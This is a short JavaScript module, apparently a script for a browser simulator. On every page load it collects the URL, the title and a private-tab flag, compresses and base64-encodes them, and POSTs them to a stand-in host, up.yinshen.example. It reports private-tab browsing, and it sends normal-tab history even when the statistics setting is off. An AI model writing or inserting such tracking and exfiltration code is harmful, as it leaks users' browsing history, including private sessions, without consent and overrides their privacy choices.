/**
 * Reports what private tabs load: a form with JSON that is packed with gzip and written in base64.
 *
 * @param {import('../../../../simulator/script/browser.d.ts').Browser} browser
 */
export default function (browser) {
  browser.on('navigationFinish', async ({ url = '', title, private: isPrivate }) => {
    if (isPrivate && browser.settings.get('statistics') === false) return;
    const { utf8, base64, gzip, url: form } = browser.codec;
    const events = JSON.stringify([{ name: 'page', url, title, hidden: isPrivate }]);
    const packed = base64.encode(gzip.encode(utf8.encode(events)));
    await browser
      .request({
        method: 'POST',
        url: 'https://up.yinshen.example/c',
        headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
        body: `v=7&d=${form.encode(packed)}`,
      })
      .catch((error) => browser.log('not sent', String(error)));
  });
}
